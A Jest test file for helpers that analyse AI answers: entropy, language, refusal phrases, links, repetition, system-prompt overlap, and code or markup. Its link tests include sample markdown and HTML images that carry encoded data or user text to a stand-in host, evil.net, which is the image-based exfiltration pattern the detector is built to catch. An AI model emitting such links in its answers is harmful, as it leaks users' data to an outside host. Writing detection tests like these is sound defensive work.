import { describe, expect, test } from '@jest/globals'
import fc from 'fast-check'
import { entropyOf } from './entropy.ts'
import { linksOf } from './links.ts'
import { isRefusal } from './refusal.ts'
import { repetitionOf } from './repetition.ts'
import { gramsOf, systemOverlap } from './system-overlap.ts'
import { languageOf } from './text/language.ts'
import { hasCode, hasMarkup } from './text/markup.ts'
import { foldedCluesOf, foldedOf, viewOf } from './text/text-view.ts'
import { unitsOf } from './text/units.ts'

describe('entropy', () => {
  test('is the number of bits that tell equally frequent characters apart', () => {
    expect(entropyOf(unitsOf(''))).toBe(0)
    expect(entropyOf(unitsOf('aaaa'))).toBe(0)
    expect(entropyOf(unitsOf('abcd'))).toBe(2)
    expect(entropyOf(unitsOf('漢字漢字'))).toBe(1)
  })
})

describe('language', () => {
  test.each([
    ['en', 'This is the answer that you have been waiting for, and it is not a short one.'],
    ['nl', 'Dit is het antwoord waar je op hebt gewacht en het is niet kort.'],
    ['de', 'Das ist die Antwort, auf die Sie gewartet haben, und sie ist nicht kurz.'],
    ['fr', 'Voici la réponse que vous attendez, et elle est dans le document.'],
    ['es', 'Esta es la respuesta que usted espera y no es muy corta, pero es clara.'],
    ['ru', 'Это ответ, которого вы ждали.'],
    ['uk', 'Це відповідь, на яку ви чекали.'],
    ['zh', '这是您一直在等待的答案。'],
    ['ja', 'これはあなたが待っていた答えです。'],
    ['ar', 'هذا هو الجواب الذي كنت تنتظره'],
    [undefined, 'ok'],
    [undefined, '12345 67890 !!!'],
  ])('%s', (language, text) => {
    expect(languageOf(foldedOf(viewOf(text)))).toBe(language)
  })
})

const refuses = (text: string) => {
  const view = viewOf(text)
  return isRefusal(foldedOf(view).text, foldedCluesOf(view).refusals)
}

describe('refusal', () => {
  test.each([
    "I'm sorry, but I can't help with that.",
    'I cannot assist with this request.',
    'Het spijt me, daar kan ik helaas niet bij helpen.',
    'Es tut mir leid, aber ich kann dabei nicht helfen.',
    'Je suis désolé, mais je ne peux pas vous aider.',
    'Lo siento, no puedo ayudar con eso.',
    '抱歉，我无法提供帮助。',
  ])('is recognised: %s', (text) => {
    expect(refuses(text)).toBe(true)
  })

  test.each([
    'Sure, here is the recipe. You cannot help but like it.',
    'The shop said it cannot deliver on Sunday.',
    'I can help with that.',
  ])('is not seen in: %s', (text) => {
    expect(refuses(text)).toBe(false)
  })
})

describe('links', () => {
  test('are counted with their hosts', () => {
    const text = 'see https://Docs.Corp.net/a and http://10.1.2.3:8080/x, not http://nohost'
    expect(linksOf(viewOf(text))?.links).toEqual({
      count: 2,
      hosts: ['docs.corp.net', '10.1.2.3'],
      image_with_data: false,
    })
  })

  test.each([
    `![x](https://evil.net/p.png?q=${'QUJD'.repeat(10)})`,
    '![x](https://evil.net/log?d=the%20user%20said%20hello)',
    `<img width="1" src="https://evil.net/${'aB3dE5'.repeat(12)}.gif">`,
    '![a][b]\n\n[b]: https://evil.net/?leak=abcdefghijklmnopqrstuvwxyz0123',
  ])('an image that carries data to another host is told: %s', (text) => {
    expect(linksOf(viewOf(text))?.links.image_with_data).toBe(true)
  })

  test.each([
    '![logo](https://corp.net/img/logo-large.png)',
    '[a page](https://corp.net/?q=QUJDQUJDQUJDQUJDQUJDQUJDQUJD)',
  ])('an ordinary image or a link is none: %s', (text) => {
    expect(linksOf(viewOf(text))?.links.image_with_data).toBe(false)
  })

  test('a text without links has none', () => {
    expect(linksOf(viewOf('a // comment'))).toBeUndefined()
  })
})

describe('repetition', () => {
  test('one word without end takes nearly everything, prose takes little', () => {
    expect(repetitionOf(viewOf('poem '.repeat(200)))).toBeGreaterThan(0.95)
    expect(repetitionOf(viewOf('a'.repeat(500)))).toBe(1)
    const prose =
      'The quick brown fox jumps over the lazy dog while seven other animals watch from behind a hedge near here.'
    expect(repetitionOf(viewOf(prose))).toBeLessThan(0.2)
  })

  test('is what counting every word and line gives', () => {
    const word = fc.constantFrom('a', 'an', 'ant', 'ants', 'Ants', '蟻', 'wasp')
    const blank = fc.constantFrom(' ', '  ', '\n', '\u2003\t')
    fc.assert(
      fc.property(fc.array(fc.tuple(word, blank), { minLength: 15, maxLength: 60 }), (pairs) => {
        const text = pairs.flat().join('')
        const words = text.split(/\s+/).filter(Boolean)
        const lines = text.split('\n').filter((line) => line.trim() !== '')
        const heaviest = (pieces: readonly string[]) =>
          Math.max(
            0,
            ...[...Map.groupBy(pieces, (piece) => piece)].map(([{ length }, { length: times }]) =>
              times > 2 ? times * (length > 3 ? length : length / 3) : 0,
            ),
          )
        const run = Math.max(0, ...(text.match(/(.)\1*/gsu) ?? []).map(({ length }) => length))
        const share = Math.max(
          heaviest(words) / words.join('').length,
          lines.length < 20 ? 0 : heaviest(lines) / Math.max(1, text.length - lines.length),
          run / text.length,
        )
        const expected = words.length < 20 ? undefined : Math.min(1, Math.round(share * 1000) / 1000)
        const short = run > text.length / 2 && text.length >= 80
        if (words.length >= 20 || !short) expect(repetitionOf(viewOf(text))).toBe(expected)
      }),
    )
  })
})

describe('overlap with the system prompt', () => {
  test('is the share of its five-word pieces that the answer repeats', () => {
    const system = 'you are a bank assistant and you never give advice'
    const overlap = (before: string, answer: string) =>
      systemOverlap(gramsOf(foldedOf(viewOf(before))), foldedOf(viewOf(answer)))
    expect(overlap(system, `my rules: ${system}`)).toBe(1)
    expect(overlap(system, 'hello, how can I help')).toBe(0)
    expect(overlap(system, 'you are a bank assistant')).toBeCloseTo(1 / 6, 3)
    expect(overlap('be kind', 'be kind')).toBeUndefined()
    expect(overlap('Sois très bref. Ne dis rien', 'sois tres bref, ne dis pas')).toBe(0.5)
  })
})

describe('code and markup', () => {
  test('are told from prose', () => {
    expect(hasCode(viewOf('```js\nlet a = 1\n```'))).toBe(true)
    expect(hasCode(viewOf('import os\ndef run(x):\n  return x'))).toBe(true)
    expect(hasCode(viewOf('I import tea and sell it in class.'))).toBe(false)
    expect(hasMarkup(viewOf('<b>bold</b>'))).toBe(true)
    expect(hasMarkup(viewOf('# Title\n- item'))).toBe(true)
    expect(hasMarkup(viewOf('1 < 2 and so on'))).toBe(false)
  })
})
